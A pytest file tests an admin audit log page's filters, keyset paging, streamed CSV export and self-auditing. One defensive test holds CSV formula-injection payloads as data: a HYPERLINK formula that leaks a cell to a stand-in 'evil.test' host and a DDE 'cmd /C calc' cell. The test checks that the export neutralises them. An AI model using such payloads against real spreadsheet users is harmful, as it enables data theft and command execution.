"""The audit log page: filters by person, family and dates; pages; exports CSV; is itself audited."""
from __future__ import annotations

import csv
import io
from datetime import date, datetime, timedelta, timezone
from urllib.parse import urlencode

import pytest

from coordinator.audit.services import record
from coordinator.extensions import db
from tests.admin.conftest import ADMIN_EMAIL, audit_events
from tests.support.pages import page_of

ALICE = "alice.lead@partnership.test"
BOB = "bob.health@nhs.test"
CSV_HEADER = ["id", "time_utc", "actor_email", "action", "object_type", "object_id", "family_id", "address",
              "detail"]


def utc(*args) -> datetime:
    return datetime(*args, tzinfo=timezone.utc)


def add_event(action, *, at, actor=None, family_id=None, detail=None, object_type=None, object_id=None):
    """An audit event written through the service, as the application writes them, at a chosen time."""
    row = record(action, actor=actor, family_id=family_id, detail=detail, object_type=object_type,
                 object_id=object_id)
    row.at = at
    return row


@pytest.fixture
def history(app, make_user, admin):
    """A few weeks of events by Alice, Bob and the system, across families 101-104."""
    alice = make_user(ALICE, "Alice Lead")
    bob = make_user(BOB, "Bob Health", agency_name="Northshire Health Visiting")
    events = {
        "alice_opens_101": add_event("family_opened", actor=alice, family_id=101, at=utc(2025, 3, 1, 9, 0),
                                     object_type="family", object_id=101, detail="opened by alice"),
        "alice_minutes_102": add_event("minutes_written", actor=alice, family_id=102,
                                       at=utc(2025, 3, 2, 10, 0), detail="minutes by alice"),
        "bob_opens_101": add_event("family_opened", actor=bob, family_id=101, at=utc(2025, 3, 2, 23, 30),
                                   detail="opened by bob"),
        "bob_invites_103": add_event("invite_sent", actor=bob, family_id=103, at=utc(2025, 3, 3, 0, 30),
                                     detail="invite by bob"),
        "system_reminds_101": add_event("reminder_sent", family_id=101, at=utc(2025, 3, 4, 8, 0),
                                        detail="reminder by system"),
        # 23:30 UTC on 30 June is 00:30 on 1 July in London (BST): a 1 July event for a London reader.
        "alice_late_104": add_event("family_opened", actor=alice, family_id=104, at=utc(2025, 6, 30, 23, 30),
                                    detail="late by alice"),
    }
    db.session.commit()
    return events


def filter_url(*, user="", family="", start: date | None = None, end: date | None = None,
               path="/admin/audit") -> str:
    """The query string a browser sends when the filter form is submitted (day, month, year per date)."""
    params = [("user", user), ("family", family)]
    for name, value in (("start", start), ("end", end)):
        parts = [str(value.day), str(value.month), str(value.year)] if value else ["", "", ""]
        params += [(name, part) for part in parts]
    params.append(("submit", "y"))
    return f"{path}?{urlencode(params)}"


def shown(response) -> list[str]:
    """The details of the events listed, in the order shown (newest first)."""
    assert response.status_code == 200
    return [row[-1] for row in page_of(response).table_rows()]


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"] == "attachment; filename=audit-log.csv"
    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


# --- filters ----------------------------------------------------------------------------------------

def test_the_log_lists_events_newest_first_with_who_did_what(admin_client, history):
    page = page_of(admin_client.get(filter_url(start=date(2025, 1, 1), end=date(2025, 12, 31))))
    assert page.heading == "Audit log"
    rows = page.table_rows()
    assert [row[-1] for row in rows] == ["late by alice", "reminder by system", "invite by bob", "opened by bob",
                                         "minutes by alice", "opened by alice"]
    late, system = rows[0], rows[1]
    assert late[:5] == ["Tuesday 1 July 2025 at 00:30", ALICE, "Family opened", "", "104"]  # in London time
    assert system[1] == "System"
    assert rows[-1][3] == "Family 101"


@pytest.mark.parametrize("style", ["form", "link"])
def test_filter_by_users_email(admin_client, history, style):
    url = filter_url(user=ALICE.upper()) if style == "form" else f"/admin/audit?user={ALICE}"
    response = admin_client.get(url)
    assert shown(response) == ["late by alice", "minutes by alice", "opened by alice"]
    assert {row[1] for row in page_of(response).table_rows()} == {ALICE}
    assert page_of(response).value("user") == (ALICE.upper() if style == "form" else ALICE)


def test_filter_by_an_email_nobody_has_shows_nothing(admin_client, history):
    response = admin_client.get(filter_url(user="nobody@partnership.test"))
    assert response.status_code == 200
    page = page_of(response)
    assert page.table_rows() == []
    assert "No events match." in page.text


def test_filter_by_family(admin_client, history):
    response = admin_client.get(filter_url(family="101"))
    assert shown(response) == ["reminder by system", "opened by bob", "opened by alice"]
    assert {row[4] for row in page_of(response).table_rows()} == {"101"}


def test_filter_by_family_and_user_together(admin_client, history):
    assert shown(admin_client.get(filter_url(user=BOB, family="101"))) == ["opened by bob"]


def test_a_family_id_that_is_not_a_number_is_explained(admin_client, history):
    response = admin_client.get(filter_url(family="Smith"))
    assert response.status_code == 200
    page = page_of(response)
    assert page.errors() == {"#family": "Enter the family's ID number"}
    assert page.value("family") == "Smith"


def test_filter_by_date_range_uses_whole_local_days(admin_client, history):
    # 2 March, London (GMT): from 00:00 to 24:00; the 00:30 UTC event on 3 March is outside.
    response = admin_client.get(filter_url(start=date(2025, 3, 2), end=date(2025, 3, 2)))
    assert shown(response) == ["opened by bob", "minutes by alice"]
    page = page_of(response)
    assert page.values("start") == ["2", "3", "2025"]  # the dates typed are kept
    assert page.values("end") == ["2", "3", "2025"]
    # 1 July, London (BST): the event at 23:30 UTC on 30 June is the first thing that day.
    assert shown(admin_client.get(filter_url(start=date(2025, 7, 1), end=date(2025, 7, 1)))) == ["late by alice"]
    # open-ended ranges
    assert shown(admin_client.get(filter_url(start=date(2025, 3, 3), end=date(2025, 3, 31)))) == [
        "reminder by system", "invite by bob"]
    assert shown(admin_client.get(filter_url(end=date(2025, 3, 1)))) == ["opened by alice"]


def test_filter_by_dates_in_a_link(admin_client, history):
    assert shown(admin_client.get("/admin/audit?start=2025-03-02&end=2025-03-02")) == [
        "opened by bob", "minutes by alice"]


def test_an_impossible_date_is_explained(admin_client, history):
    response = admin_client.get("/admin/audit?" + urlencode([("start", "31"), ("start", "2"), ("start", "2025")]))
    assert response.status_code == 200
    page = page_of(response)
    assert list(page.errors()) == ["#start"]
    assert page.values("start") == ["31", "2", "2025"]


# --- pages ------------------------------------------------------------------------------------------

@pytest.fixture
def busy_may(app, make_user):
    carol = make_user("carol.chair@partnership.test", "Carol Chair")
    for n in range(60):
        add_event("family_opened", actor=carol, family_id=200 + n, at=utc(2025, 5, 1, 8) + timedelta(hours=n),
                  detail=f"may event {n:02d}")
    db.session.commit()
    return [f"may event {n:02d}" for n in reversed(range(60))]  # newest first


def next_link(page) -> str | None:
    links = [a for a in page.find_all("a") if a.attrs.get("rel") == "next"]
    return links[0].attrs["href"] if links else None


def previous_link(page) -> str | None:
    links = [a for a in page.find_all("a") if a.attrs.get("rel") == "prev"]
    return links[0].attrs["href"] if links else None


def test_the_log_pages_through_filtered_events_keeping_the_filter(admin_client, history, busy_may):
    first = admin_client.get(filter_url(start=date(2025, 5, 1), end=date(2025, 5, 31)))
    assert shown(first) == busy_may[:50]
    page = page_of(first)
    assert previous_link(page) is None
    assert next_link(page) is not None

    # Following the link a person would click.
    second = admin_client.get(next_link(page))
    assert second.status_code == 200
    second_page = page_of(second)
    assert second_page.errors() == {}
    assert shown(second) == busy_may[50:]  # the same filter: only May's events, none twice
    assert second_page.values("start") == ["1", "5", "2025"]
    assert next_link(second_page) is None
    back = admin_client.get(previous_link(second_page))
    assert shown(back) == busy_may[:50]


def test_the_unfiltered_log_pages_too(admin_client, busy_may):
    first = page_of(admin_client.get("/admin/audit"))
    assert len(first.table_rows()) == 50
    second = admin_client.get(next_link(first))
    rows = page_of(second).table_rows()
    # 60 May events, the users' creation and the sign-in: 63 before the first page was viewed. Viewing it
    # wrote one more event, at the top: the older page starts after the first page's last event, so nothing
    # written meanwhile shifts an event from one page onto the next.
    assert len(rows) == 13
    assert set(busy_may[50:]) <= {row[-1] for row in rows}
    assert not {tuple(row) for row in rows} & {tuple(row) for row in first.table_rows()}


def test_the_page_size_is_a_setting(app, admin_client, history):
    app.config["AUDIT_PAGE_SIZE"] = 2
    url = filter_url(start=date(2025, 3, 1), end=date(2025, 3, 31))
    page = page_of(admin_client.get(url))
    assert [row[-1] for row in page.table_rows()] == ["reminder by system", "invite by bob"]
    page = page_of(admin_client.get(next_link(page)))
    assert [row[-1] for row in page.table_rows()] == ["opened by bob", "minutes by alice"]


# --- CSV --------------------------------------------------------------------------------------------

def test_the_csv_export_holds_the_filtered_events(admin_client, history):
    page = page_of(admin_client.get(filter_url(user=ALICE)))
    href = page.link("Download these events as CSV")
    assert href.startswith("/admin/audit.csv?")
    rows = csv_rows(admin_client.get(href))
    assert rows[0] == CSV_HEADER
    expected = [history[key] for key in ("alice_late_104", "alice_minutes_102", "alice_opens_101")]
    assert rows[1:] == [
        [str(e.id), e.at.isoformat(), ALICE, e.action, e.object_type or "", e.object_id or "",
         str(e.family_id), "", e.detail] for e in expected]
    assert rows[3][1] == "2025-03-01T09:00:00+00:00"
    assert rows[3][4:7] == ["family", "101", "101"]


def test_the_csv_export_of_a_date_range_from_the_page(admin_client, history):
    page = page_of(admin_client.get(filter_url(start=date(2025, 3, 2), end=date(2025, 3, 2))))
    rows = csv_rows(admin_client.get(page.link("Download these events as CSV")))
    assert [row[-1] for row in rows] == ["detail", "opened by bob", "minutes by alice"]


def test_the_csv_export_of_a_family(admin_client, history):
    rows = csv_rows(admin_client.get(filter_url(family="101", path="/admin/audit.csv")))
    assert [row[-1] for row in rows[1:]] == ["reminder by system", "opened by bob", "opened by alice"]
    assert rows[1][2] == ""  # the system: no person


def test_the_csv_export_of_nothing_has_just_the_header(admin_client, history):
    assert csv_rows(admin_client.get(filter_url(user="nobody@partnership.test", path="/admin/audit.csv"))) == [
        CSV_HEADER]


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(admin_client, make_user):
    # A valid email address can begin with '=', '+' or '-'.
    sly = make_user("=1+2@evil.test", "Sly Person")
    details = ['=HYPERLINK("http://evil.test/?leak="&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)",
               "plain text", "a=b+c-d@e"]
    for n, detail in enumerate(details):
        add_event("note", actor=sly, family_id=300, at=utc(2025, 8, 1, 9, n), detail=detail,
                  object_type="=cmd|' /C calc'!A0", object_id=f"-{n}")
    db.session.commit()

    rows = csv_rows(admin_client.get(filter_url(family="300", path="/admin/audit.csv")))
    body = rows[1:]
    assert [row[-1] for row in body] == ["a=b+c-d@e", "plain text", "'@SUM(A1:A9)", "'-2+3", "'+1+1",
                                         '\'=HYPERLINK("http://evil.test/?leak="&A1,"Click")']
    assert {row[2] for row in body} == {"'=1+2@evil.test"}
    assert {row[4] for row in body} == {"'=cmd|' /C calc'!A0"}
    assert [row[5] for row in body] == ["'-5", "'-4", "'-3", "'-2", "'-1", "'-0"]
    # No cell anywhere begins with a formula character.
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@")]


# --- the log is itself audited ----------------------------------------------------------------------

def test_viewing_the_log_is_audited_with_the_filters_used(admin_client, admin, history):
    admin_client.get(filter_url(user=ALICE, family="101", start=date(2025, 3, 1), end=date(2025, 3, 31)))
    [viewed] = audit_events("audit_log_viewed")
    assert viewed.actor_id == admin.id
    assert viewed.address == "127.0.0.1"
    for part in (ALICE, "101", "2025-03-01", "2025-03-31"):
        assert part in viewed.detail

    # ...and the administrator sees that on the next look.
    page = page_of(admin_client.get("/admin/audit"))
    newest = page.table_rows()[0]
    assert newest[1:3] == [ADMIN_EMAIL, "Audit log viewed"]


def test_exporting_the_log_is_audited(admin_client, admin, history):
    admin_client.get(filter_url(user=BOB, path="/admin/audit.csv"))
    [exported] = audit_events("audit_log_exported")
    assert exported.actor_id == admin.id
    assert exported.detail.startswith("2 rows;")
    assert BOB in exported.detail
    assert audit_events("audit_log_viewed") == []


# --- at scale: keyset pages and a streamed export ---------------------------------------------------------

@pytest.fixture
def busy_year(app, make_user):
    """4,500 events an hour apart in 2025, written in bulk."""
    from sqlalchemy import insert

    from coordinator.audit.models import AuditEvent

    dana = make_user("dana.lead@partnership.test", "Dana Lead")
    start = utc(2025, 1, 1, 9)
    db.session.execute(insert(AuditEvent), [
        {"at": start + timedelta(hours=n), "actor_id": dana.id, "action": "family_viewed", "object_type": "family",
         "object_id": str(n % 40), "family_id": n % 40, "detail": f"year event {n:04d}"} for n in range(4500)])
    db.session.commit()
    return [f"year event {n:04d}" for n in reversed(range(4500))]  # newest first


def test_a_deep_page_costs_what_the_first_costs_and_every_event_appears_once(app, admin_client, busy_year):
    from tests.families.helpers import counting_queries

    app.config["AUDIT_PAGE_SIZE"] = 100
    url = filter_url(start=date(2025, 1, 1), end=date(2025, 12, 31))
    seen, costs, pages = [], [], 0
    while url:
        with counting_queries(db.engine) as statements:
            response = admin_client.get(url)
        assert response.status_code == 200
        costs.append(len(statements))
        seen += shown(response)
        url = next_link(page_of(response))
        pages += 1
    assert pages == 45
    assert seen == busy_year  # newest first, none missing, none twice
    assert len(set(costs[1:])) == 1 and costs[-1] <= costs[0] + 1  # a deep page: the first's cost and its anchor
    # and back up from the last page to the first, through the newer links: the same pages, in order
    back, url = shown(response), previous_link(page_of(response))
    while url:
        response = admin_client.get(url)
        back = shown(response) + back
        url = previous_link(page_of(response))
    assert back == busy_year


def test_a_page_link_edited_by_hand_starts_from_the_newest(admin_client, busy_year):
    year = filter_url(start=date(2025, 1, 1), end=date(2025, 12, 31))
    for value in ("abc", "-5", "99999999999999999999", "0", "4999999", "²", "١٢"):
        response = admin_client.get(f"{year}&older_than={value}")
        assert response.status_code == 200
        assert shown(response)[:3] == busy_year[:3]


def test_the_export_streams_in_batches_every_event_in_order(admin_client, busy_year):
    from tests.families.helpers import counting_queries

    with counting_queries(db.engine) as statements:
        response = admin_client.get(filter_url(start=date(2025, 1, 1), end=date(2025, 12, 31), path="/admin/audit.csv"))
        assert response.is_streamed  # written to the wire as it is read, not built in memory first
        rows = csv_rows(response)
    assert [row[-1] for row in rows[1:]] == busy_year
    batches = [s for s in statements if s.lstrip().upper().startswith("SELECT") and "LIMIT" in s.upper()]
    assert len(batches) == 3  # 4,500 rows read 2,000 at a time
    exported = audit_events("audit_log_exported")[-1]
    assert exported.detail.startswith("4500 rows")
